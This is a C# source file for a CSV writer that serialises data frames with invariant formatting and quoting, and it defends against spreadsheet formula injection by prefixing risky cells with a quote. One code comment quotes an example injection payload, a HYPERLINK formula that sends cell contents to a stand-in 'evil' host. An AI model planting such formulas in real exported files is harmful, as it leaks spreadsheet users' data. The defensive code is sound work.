using System.Globalization;
using System.Text;
using Microsoft.Data.Analysis;

namespace DataApps.Data;

/// <summary>Writes frames as CSV that <see cref="Csv"/> reads back to the same types and values.</summary>
internal static class CsvWriter
{
    private static readonly UTF8Encoding Utf8NoBom = new(encoderShouldEmitUTF8Identifier: false);

    public static void Write(DataFrame frame, Stream stream, CsvOptions options)
    {
        var separator = options.Separator ?? ',';
        using var writer = new StreamWriter(stream, Utf8NoBom, 1 << 16, leaveOpen: true) { NewLine = "\n" };
        var columns = frame.Columns;
        if (options.HasHeader)
        {
            for (var c = 0; c < columns.Count; c++)
            {
                if (c > 0)
                {
                    writer.Write(separator);
                }

                WriteText(writer, Neutralise(columns[c].Name, options), separator);
            }

            writer.Write('\n');
        }

        for (long r = 0; r < frame.Rows.Count; r++)
        {
            for (var c = 0; c < columns.Count; c++)
            {
                if (c > 0)
                {
                    writer.Write(separator);
                }

                WriteValue(writer, columns[c][r], separator, options);
            }

            writer.Write('\n');
        }
    }

    private static void WriteValue(StreamWriter writer, object? value, char separator, CsvOptions options)
    {
        switch (value)
        {
            case null:
                return;
            case string s:
                WriteText(writer, Neutralise(s, options), separator);
                return;
            case bool b:
                writer.Write(b ? "true" : "false");
                return;
            case DateTime d:
                writer.Write(d.TimeOfDay == TimeSpan.Zero
                    ? d.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture)
                    : d.ToString("yyyy-MM-dd HH:mm:ss.FFFFFFF", CultureInfo.InvariantCulture).TrimEnd('.'));
                return;
            case double x:
                writer.Write(x.ToString("R", CultureInfo.InvariantCulture));
                return;
            case float f:
                writer.Write(f.ToString("R", CultureInfo.InvariantCulture));
                return;
            case IFormattable formattable:
                WriteText(writer, formattable.ToString(null, CultureInfo.InvariantCulture), separator);
                return;
            default:
                WriteText(writer, Neutralise(value.ToString() ?? "", options), separator);
                return;
        }
    }

    // Note [Formula cells]: a spreadsheet runs a cell that starts with = + - @ (and, in some, after a tab or CR) as a
    // formula, so data from users (=HYPERLINK("https://evil/?"&A1,"Click")) becomes a link or a command in the
    // reader's Excel. OWASP's rule: prefix such text with a single quote, which spreadsheets show as text. Text that
    // is a plain number is left alone (a spreadsheet reads it as that number, not a formula) so negative numbers in
    // text columns stay readable.
    internal static string Neutralise(string text, CsvOptions options)
    {
        if (!options.EscapeFormulas || text.Length == 0 || text[0] is not ('=' or '+' or '-' or '@' or '\t' or '\r'))
        {
            return text;
        }

        return double.TryParse(text, NumberStyles.Float, CultureInfo.InvariantCulture, out _) ? text : "'" + text;
    }

    private static void WriteText(StreamWriter writer, string text, char separator)
    {
        var needsQuotes = text.AsSpan().IndexOfAny(separator, '"', '\n') >= 0 || text.Contains('\r', StringComparison.Ordinal)
            || (text.Length > 0 && (char.IsWhiteSpace(text[0]) || char.IsWhiteSpace(text[^1])));
        if (!needsQuotes)
        {
            writer.Write(text);
            return;
        }

        writer.Write('"');
        writer.Write(text.Replace("\"", "\"\"", StringComparison.Ordinal));
        writer.Write('"');
    }
}
